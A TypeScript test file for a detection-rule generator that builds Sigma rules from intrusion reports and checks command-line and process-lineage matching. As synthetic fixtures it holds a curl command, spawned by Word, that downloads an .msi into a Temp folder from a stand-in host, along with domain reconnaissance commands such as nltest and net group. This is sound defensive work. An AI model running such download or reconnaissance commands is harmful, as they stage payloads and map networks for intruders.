import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules } from './builtin-sigma-agent';
import { knownSpellings } from './technique-match';

// The parent a program was started by, where the article's process tree shows it and the pair is suspicious in
// itself, is the lineage rule's finding; the program's command rule keys what it was told to do however it was started
// (with the parent required it would match only what the lineage rule does). Synthetic examples; none comes from an article.
const article = { title: 'Synthetic intrusion note', url: 'https://notes.example.org/synthetic', date: '2026-11-28' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
const line = 'curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi hxxps://dl.quillmirror[.]example/q.msi';
const fromDocument = { ...item, value: 'winword.exe -> curl.exe', parent: 'winword.exe', child: 'curl.exe' };

describe("the parent the article shows is the lineage rule's, not the command's", () => {
  const drafts = generateBuiltinRules({
    article,
    platform: 'windows',
    cmdlines: [{ ...item, value: line, executable: 'curl' }],
    processPairs: [fromDocument],
  });
  const curl = drafts.find((draft) => JSON.stringify(draft.rule.detection).includes('quillmirror'));
  const lineage = drafts.find((draft) => JSON.stringify(draft.rule.detection).includes('ParentImage'));

  it('keys the command on the program and its arguments, without the parent', () => {
    expect(curl?.rule.detection).toMatchObject({
      selection_img: [{ 'Image|endswith': '\\curl.exe' }, { OriginalFileName: 'curl.exe' }],
      condition: 'all of selection_*',
    });
    expect(curl?.rule.detection).not.toHaveProperty('selection_parent');
    // The switch, the folder, the file type and the scheme, as an engineer keys a download.
    expect(curl?.rule.detection['selection_cli']).toEqual({
      'CommandLine|contains|all': ['\\AppData\\Local\\Temp\\', 'dl.quillmirror.example', '-Lo', '.msi', 'http'],
    });
  });

  it('keys the pair in a rule of its own, with no command-line value', () => {
    expect(lineage?.rule.detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\curl.exe' }, { OriginalFileName: 'curl.exe' }],
      selection_parent: { 'ParentImage|endswith': '\\winword.exe' },
      condition: 'all of selection_*',
    });
  });

  it('fires on the command however it was started, and the lineage rule on the pair alone', () => {
    const rule = curl?.rule as unknown as Record<string, unknown>;
    const direct = 'curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quillmirror.example/q.msi';
    expect(selfTestRule(rule, [{ type: 'cmdline', value: `powershell -c "${direct}"` }]).fires).toBe(true);
    const pair = { type: 'process_lineage', value: fromDocument.value, attributes: { parent: 'winword.exe', child: 'curl.exe' } };
    expect(selfTestRule(lineage?.rule as unknown as Record<string, unknown>, [pair]).fires).toBe(true);
  });

  it('writes no parent anywhere where a shell started the program as any operator would', () => {
    const cmdlines = [{ ...item, value: line, executable: 'curl' }];
    const fromShell = { ...item, value: 'cmd.exe -> curl.exe', parent: 'cmd.exe', child: 'curl.exe' };
    const shell = generateBuiltinRules({ article, platform: 'windows', cmdlines, processPairs: [fromShell] });
    expect(JSON.stringify(shell.map((draft) => draft.rule.detection))).not.toContain('ParentImage');
  });

  it("backs a program's OriginalFileName by the program the text names, for the fidelity check", () => {
    expect(knownSpellings('nltest /domain_trusts')).toContain('nltestrk.exe');
    expect(knownSpellings('powershell -nop -c whoami')).toContain('pwsh.dll');
    // A technique's program backs its OriginalFileName: the rule on net.exe keys net1.exe too.
    expect(knownSpellings('net group "Domain Admins" /domain')).toContain('net1.exe');
    expect(knownSpellings('the quill sync client')).not.toContain('nltestrk.exe');
  });

  it('answers each text alone: the spellings table built once carries nothing of the texts read before', () => {
    const first = [...knownSpellings('net group "Domain Admins" /domain')];
    expect(first).toContain('net.exe');
    expect(knownSpellings('the quill sync client')).not.toContain('net.exe');
    expect([...knownSpellings('net group "Domain Admins" /domain')]).toEqual(first);
  });
});
